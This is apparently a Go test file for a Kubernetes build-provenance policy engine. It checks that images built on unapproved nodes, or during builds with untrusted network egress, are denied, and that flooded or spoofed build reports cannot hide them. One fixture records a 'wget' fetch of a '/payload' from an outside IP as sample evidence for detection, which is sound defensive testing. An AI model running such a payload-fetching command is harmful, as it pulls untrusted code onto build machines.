package engine_test

import (
	"fmt"
	"net/http"
	"net/netip"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"buildguard.dev/buildguard/engine"
	"buildguard.dev/buildguard/evidence"
	"buildguard.dev/buildguard/internal/clock/clocktest"
	"buildguard.dev/buildguard/internal/testregistry"
	"buildguard.dev/buildguard/policy"
	"buildguard.dev/buildguard/registry"
)

// TestNodeEvidence correlates, in a real SQLite store, a build a node
// reported with the image pushed from it (the Docker image ID is the
// config digest) and the connections of that build.
func TestNodeEvidence(t *testing.T) {
	reg := testregistry.New(t)
	built := now.Add(-90 * time.Minute)
	// The build writes created as it ends.
	img := testregistry.Build(t, testregistry.Image{Created: built.Add(time.Minute)})
	reg.Push(t, "acme/shop:1", img)
	cfg, err := img.ConfigName()
	if err != nil {
		t.Fatal(err)
	}
	store, err := evidence.OpenSQLite(t.Context(), filepath.Join(t.TempDir(), "evidence.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	_, _, err = store.AddReport(t.Context(), evidence.Report{Node: "worker-3", Sensor: "ebpf",
		Builds: []evidence.Build{{Source: "agent", EventID: "b1", Node: "worker-3", Tool: "docker", ImageID: cfg.String(),
			Tags: []string{reg.Host + "/acme/shop:1"}, Started: built, Finished: built.Add(time.Minute)}},
		Connections: []evidence.Connection{
			{Source: "agent", EventID: "c1", Node: "worker-3", Time: built.Add(20 * time.Second), Process: "wget", PID: 4242,
				Cmdline: "wget http://203.0.113.9:8080/payload", DestIP: netip.MustParseAddr("203.0.113.9"), DestPort: 8080},
			{Source: "agent", EventID: "c2", Node: "worker-3", Time: built.Add(30 * time.Second), Process: "apt-get", PID: 4243,
				DestIP: netip.MustParseAddr("10.1.2.3"), DestPort: 80},
		}})
	if err != nil {
		t.Fatal(err)
	}
	p, err := policy.Compile(policy.Spec{
		Registries:   policy.Registries{Allow: []string{reg.Host + "/acme/*"}, Insecure: []string{"127.0.0.1:*"}},
		NodeEvidence: &policy.NodeEvidence{ApprovedBuildNodes: []string{"ci-runner-*"}, TrustedDestinations: []string{"10.0.0.0/8"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	v := evaluatePod(t, p, store, now, reg.Host+"/acme/shop:1")
	var got []string
	for _, f := range v.Images[0].Findings {
		got = append(got, string(f.Rule)+": "+f.Message)
	}
	want := []string{"host-built: node worker-3 built", "untrusted-egress: while node worker-3 built this image, wget (pid 4242) connected to untrusted 203.0.113.9:8080"}
	if v.Allowed || len(got) != 2 || !strings.HasPrefix(got[0], want[0]) || !strings.HasPrefix(got[1], want[1]) {
		t.Errorf("Evaluate findings = %q, want %q (and denied)", got, want)
	}
}

// TestTagFallback: a build found only by the image's tag is this image's
// build when it names no image ID; one whose image ID is none of the
// image's digests (config, manifest, index) built another image that
// happens to share the tag, and must not deny this one.
func TestTagFallback(t *testing.T) {
	reg := testregistry.New(t)
	img := testregistry.Build(t, testregistry.Image{Created: now.Add(-2 * time.Hour)})
	reg.Push(t, "acme/shop:1", img)
	ref := reg.Host + "/acme/shop:1"
	other := "sha256:" + strings.Repeat("ab", 32)
	built := now.Add(-90 * time.Minute)
	for _, tc := range []struct {
		name    string
		imageID string
		want    string
	}{
		{"a build of another image with the same tag", other, ""},
		{"a build that names no image", "", "host-built"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			store, err := evidence.OpenSQLite(t.Context(), filepath.Join(t.TempDir(), "evidence.db"))
			if err != nil {
				t.Fatal(err)
			}
			defer store.Close()
			_, _, err = store.AddReport(t.Context(), evidence.Report{Node: "worker-3", Sensor: "ebpf",
				Builds: []evidence.Build{{Source: "agent", EventID: "b1", Node: "worker-3", Tool: "docker", ImageID: tc.imageID,
					Tags: []string{ref}, Started: built, Finished: built.Add(time.Minute)}}})
			if err != nil {
				t.Fatal(err)
			}
			p, err := policy.Compile(policy.Spec{
				Registries:   policy.Registries{Allow: []string{reg.Host + "/acme/*"}, Insecure: []string{"127.0.0.1:*"}},
				NodeEvidence: &policy.NodeEvidence{ApprovedBuildNodes: []string{"ci-runner-*"}},
			})
			if err != nil {
				t.Fatal(err)
			}
			v := evaluatePod(t, p, store, now, ref)
			var got []string
			for _, f := range v.Images[0].Findings {
				got = append(got, string(f.Rule))
			}
			if strings.Join(got, " ") != tc.want {
				t.Errorf("Evaluate findings = %q, want %q", got, tc.want)
			}
		})
	}
}

const agentUser = "system:serviceaccount:buildguard-system:buildguard-node-agent"

// TestNodeEvidenceOfOtherNodes: builds another node reported of the same
// image — with the same event ID, taken first, or many and newer — do not
// hide a node's genuine build. ci-runner-1 is an approved build node.
func TestNodeEvidenceOfOtherNodes(t *testing.T) {
	reg := testregistry.New(t)
	img := testregistry.Build(t, testregistry.Image{Created: now.Add(-2 * time.Hour)})
	reg.Push(t, "acme/shop:1", img)
	cfg, err := img.ConfigName()
	if err != nil {
		t.Fatal(err)
	}
	p, err := policy.Compile(policy.Spec{
		Registries:   policy.Registries{Allow: []string{reg.Host + "/acme/*"}, Insecure: []string{"127.0.0.1:*"}},
		NodeEvidence: &policy.NodeEvidence{ApprovedBuildNodes: []string{"ci-runner-*"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	built := now.Add(-90 * time.Minute)
	build := func(node, eventID string, finished time.Time) evidence.Build {
		return evidence.Build{Source: "agent", EventID: eventID, Node: node, Tool: "docker", ImageID: cfg.String(),
			Tags: []string{reg.Host + "/acme/shop:1"}, Started: finished.Add(-time.Minute), Finished: finished}
	}
	// The agent's build ID for an image is predictable.
	agentID := "docker-build/" + cfg.String()
	var flood []evidence.Build
	for i := range 3 * evidence.MaxBuildsPerNode {
		flood = append(flood, build("ci-runner-1", fmt.Sprint("flood-", i), built.Add(time.Duration(i+1)*time.Minute)))
	}
	for _, tc := range []struct {
		name   string
		before []evidence.Build // what ci-runner-1 reports first
	}{
		{"the same event ID, taken first", []evidence.Build{build("ci-runner-1", agentID, built.Add(time.Minute))}},
		{"many newer builds", flood},
		{"both", append([]evidence.Build{build("ci-runner-1", agentID, built.Add(time.Minute))}, flood...)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			store, err := evidence.OpenSQLite(t.Context(), filepath.Join(t.TempDir(), "evidence.db"))
			if err != nil {
				t.Fatal(err)
			}
			defer store.Close()
			for _, r := range []evidence.Report{
				{Node: "ci-runner-1", Builds: tc.before},
				{Node: "worker-3", Reporter: agentUser, Builds: []evidence.Build{build("worker-3", agentID, built)}},
			} {
				if _, _, err := store.AddReport(t.Context(), r); err != nil {
					t.Fatal(err)
				}
			}
			v := evaluatePod(t, p, store, now, reg.Host+"/acme/shop:1")
			var got []string
			var reporter any
			for _, f := range v.Images[0].Findings {
				got = append(got, string(f.Rule)+": "+f.Message)
				if f.Rule == policy.RuleHostBuilt && f.Evidence["node"] == "worker-3" {
					reporter = f.Evidence["reporter"]
				}
			}
			if v.Allowed || !slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "host-built: node worker-3 built") }) {
				t.Errorf("Evaluate = allowed %v, findings %q; want denied host-built naming worker-3", v.Allowed, got)
			}
			if reporter != agentUser {
				t.Errorf("the host-built finding's evidence names the reporter %v, want %s", reporter, agentUser)
			}
		})
	}
}

// evaluatePod judges a Pod in namespace shop running image, at now on a
// test clock, with the evidence of store.
func evaluatePod(t *testing.T, p *policy.Policy, store engine.Evidence, now time.Time, image string) policy.Verdict {
	t.Helper()
	clock := clocktest.New(now)
	e := &engine.Engine{
		Policies: engine.PolicyFunc(func() *policy.Policy { return p }),
		Resolver: registry.New(registry.WithTransport(http.DefaultTransport), registry.WithClock(clock)),
		Evidence: store,
		Clock:    clock,
	}
	v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod",
		Spec: &corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: image}}}})
	if err != nil {
		t.Fatal(err)
	}
	return v
}
